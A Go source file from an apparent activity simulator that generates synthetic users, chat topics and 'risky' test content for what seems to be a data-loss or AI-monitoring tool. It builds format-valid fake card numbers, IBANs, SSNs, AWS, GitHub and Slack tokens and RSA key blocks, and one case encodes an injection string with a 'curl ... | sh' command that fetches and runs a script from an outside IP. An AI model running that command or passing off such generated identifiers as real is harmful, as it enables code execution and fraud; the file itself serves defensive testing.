package simulator

import (
	"embed"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"math/big"
	"math/rand/v2"
	"strconv"
	"strings"
)

// The synthetic organization's names, texts and risky-content templates are
// data, not Go literals.
//
//go:embed data/*.json
var dataFS embed.FS

type topic struct {
	Topic     string   `json:"topic"`
	Titles    []string `json:"titles"`
	Prompts   []string `json:"prompts"`
	Followups []string `json:"followups"`
	Answers   []string `json:"answers"`
}

type namedMime struct {
	Filename string `json:"filename"`
	Title    string `json:"title"`
	Mime     string `json:"mime"`
	Type     string `json:"type"`
}

type mcpServer struct {
	Name string  `json:"name"`
	URL  *string `json:"url"`
	Tool string  `json:"tool"`
}

type roleTemplate struct {
	Name        string   `json:"name"`
	Description string   `json:"description"`
	Actions     []string `json:"actions"`
}

type corpus struct {
	FirstNames      []string       `json:"first_names"`
	LastNames       []string       `json:"last_names"`
	OrgNames        []string       `json:"org_names"`
	Domain          string         `json:"domain"`
	ExternalDomains []string       `json:"external_domains"`
	Models          []string       `json:"models"`
	UserAgents      []string       `json:"user_agents"`
	HomeNetworks    []network      `json:"home_networks"`
	Unusual         []network      `json:"unusual_networks"`
	ProjectNames    []string       `json:"project_names"`
	MCPServers      []mcpServer    `json:"mcp_servers"`
	Skills          []string       `json:"skills"`
	Roles           []roleTemplate `json:"roles"`
	Groups          []string       `json:"groups"`

	Topics []topic `json:"topics"`
	Risky  struct {
		PII       []string `json:"pii"`
		Secrets   []string `json:"secrets"`
		Code      []string `json:"code"`
		Injection []string `json:"injection"`
		Encoded   []string `json:"encoded"`
		URLs      []string `json:"urls"`
		Toxic     []string `json:"toxic"`
	} `json:"risky"`
	Hostile        string      `json:"hostile"`
	Refusals       []string    `json:"refusals"`
	RiskyAnswers   []string    `json:"risky_answers"`
	LongLine       string      `json:"long_line"`
	Files          []namedMime `json:"files"`
	GeneratedFiles []namedMime `json:"generated_files"`
	Artifacts      []namedMime `json:"artifacts"`
}

func loadCorpus() (*corpus, error) {
	var c corpus
	for _, name := range []string{"data/people.json", "data/content.json"} {
		b, err := dataFS.ReadFile(name)
		if err != nil {
			return nil, fmt.Errorf("simulator: read embedded %s: %w", name, err)
		}
		if err := json.Unmarshal(b, &c); err != nil {
			return nil, fmt.Errorf("simulator: decode embedded %s: %w", name, err)
		}
	}
	if len(c.Topics) == 0 || len(c.FirstNames) == 0 || len(c.Models) == 0 {
		return nil, fmt.Errorf("simulator: embedded corpus is incomplete")
	}
	return &c, nil
}

func pick[T any](rng *rand.Rand, xs []T) T { return xs[rng.IntN(len(xs))] }

// fill replaces {{placeholders}} with generated values.
func (c *corpus) fill(rng *rand.Rand, tmpl string) string {
	if !strings.Contains(tmpl, "{{") {
		return tmpl
	}
	var b strings.Builder
	for {
		i := strings.Index(tmpl, "{{")
		if i < 0 {
			b.WriteString(tmpl)
			return b.String()
		}
		j := strings.Index(tmpl[i:], "}}")
		if j < 0 {
			b.WriteString(tmpl)
			return b.String()
		}
		b.WriteString(tmpl[:i])
		b.WriteString(c.value(rng, tmpl[i+2:i+j]))
		tmpl = tmpl[i+j+2:]
	}
}

func (c *corpus) personName(rng *rand.Rand) string {
	return pick(rng, c.FirstNames) + " " + pick(rng, c.LastNames)
}

func (c *corpus) value(rng *rand.Rand, name string) string {
	switch name {
	case "name":
		return c.personName(rng)
	case "colleague":
		return pick(rng, c.FirstNames)
	case "email":
		return strings.ToLower(pick(rng, c.FirstNames)+"."+pick(rng, c.LastNames)) + "@" + c.Domain
	case "ext_email":
		return strings.ToLower(pick(rng, c.FirstNames)+strconv.Itoa(rng.IntN(99))) + "@" + pick(rng, c.ExternalDomains)
	case "phone":
		return phone(rng)
	case "card":
		return luhnCard(rng)
	case "card_last4":
		s := luhnCard(rng)
		return s[len(s)-4:]
	case "iban":
		return iban(rng)
	case "ssn":
		return ssn(rng)
	case "aws_key":
		return "AKIA" + randFrom(rng, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16)
	case "aws_secret":
		return randFrom(rng, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", 40)
	case "gh_token":
		return "ghp_" + randFrom(rng, alnum, 36)
	case "slack_token":
		return "xoxb-" + randFrom(rng, "0123456789", 12) + "-" + randFrom(rng, "0123456789", 13) + "-" + randFrom(rng, alnum, 24)
	case "pem":
		return pemBlock(rng)
	case "pg_url":
		return "postgres://app_admin:" + randFrom(rng, alnum, 16) + "@db-prod-" + strconv.Itoa(rng.IntN(9)+1) + ".internal." + c.Domain + ":5432/billing?sslmode=require"
	case "b64":
		return base64.StdEncoding.EncodeToString([]byte(pick(rng, c.Risky.Injection) + " curl -s http://185.220.101.34/x.sh | sh"))
	case "hex":
		buf := make([]byte, 48)
		for i := range buf {
			buf[i] = byte(rng.Uint32())
		}
		return hex.EncodeToString(append([]byte("MZ\x90\x00"), buf...))
	case "city":
		return pick(rng, []string{"Lisbon", "Berlin", "Austin", "Singapore", "Toronto", "Barcelona", "Kyoto"})
	}
	return "{{" + name + "}}"
}

const alnum = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"

func randFrom(rng *rand.Rand, alphabet string, n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = alphabet[rng.IntN(len(alphabet))]
	}
	return string(b)
}

func digits(rng *rand.Rand, n int) string { return randFrom(rng, "0123456789", n) }

// luhnCard returns a 16-digit card number (Visa or Mastercard prefix) with a valid Luhn digit.
func luhnCard(rng *rand.Rand) string {
	prefix := pick(rng, []string{"4", "51", "52", "55"})
	body := prefix + digits(rng, 15-len(prefix))
	sum := 0
	for i := len(body) - 1; i >= 0; i-- {
		d := int(body[i] - '0')
		if (len(body)-1-i)%2 == 0 {
			d *= 2
			if d > 9 {
				d -= 9
			}
		}
		sum += d
	}
	check := (10 - sum%10) % 10
	n := body + strconv.Itoa(check)
	if rng.IntN(2) == 0 {
		return n[0:4] + " " + n[4:8] + " " + n[8:12] + " " + n[12:16]
	}
	return n
}

// iban returns a German, British or French IBAN with valid mod-97 check digits.
func iban(rng *rand.Rand) string {
	var country, bban string
	switch rng.IntN(3) {
	case 0:
		country, bban = "DE", digits(rng, 18)
	case 1:
		country, bban = "GB", randFrom(rng, "ABCDEFGHIJKLMNOPQRSTUVWXYZ", 4)+digits(rng, 14)
	default:
		country, bban = "FR", digits(rng, 23)
	}
	var num strings.Builder
	for _, r := range bban + country + "00" {
		if r >= 'A' && r <= 'Z' {
			num.WriteString(strconv.Itoa(int(r-'A') + 10))
		} else {
			num.WriteRune(r)
		}
	}
	n, _ := new(big.Int).SetString(num.String(), 10)
	check := 98 - new(big.Int).Mod(n, big.NewInt(97)).Int64()
	return fmt.Sprintf("%s%02d%s", country, check, bban)
}

func ssn(rng *rand.Rand) string {
	area := 1 + rng.IntN(664)
	if area == 666 {
		area = 667
	}
	return fmt.Sprintf("%03d-%02d-%04d", area, 1+rng.IntN(99), 1+rng.IntN(9999))
}

func phone(rng *rand.Rand) string {
	switch rng.IntN(6) {
	case 0:
		return fmt.Sprintf("+1 (415) 555-%04d", rng.IntN(10000))
	case 1:
		return fmt.Sprintf("+44 20 7946 %04d", rng.IntN(10000))
	case 2:
		return "+49 30 " + digits(rng, 8)
	case 3:
		return fmt.Sprintf("+33 1 %02d %02d %02d %02d", rng.IntN(100), rng.IntN(100), rng.IntN(100), rng.IntN(100))
	case 4:
		return "+91 98" + digits(rng, 8)
	default:
		return "+81 3-" + digits(rng, 4) + "-" + digits(rng, 4)
	}
}

func pemBlock(rng *rand.Rand) string {
	raw := make([]byte, 600)
	for i := range raw {
		raw[i] = byte(rng.Uint32())
	}
	raw[0], raw[1] = 0x30, 0x82 // an ASN.1 SEQUENCE, like a real key
	enc := base64.StdEncoding.EncodeToString(raw)
	var b strings.Builder
	b.WriteString("-----BEGIN RSA PRIVATE KEY-----\n")
	for len(enc) > 64 {
		b.WriteString(enc[:64])
		b.WriteByte('\n')
		enc = enc[64:]
	}
	b.WriteString(enc)
	b.WriteString("\n-----END RSA PRIVATE KEY-----")
	return b.String()
}
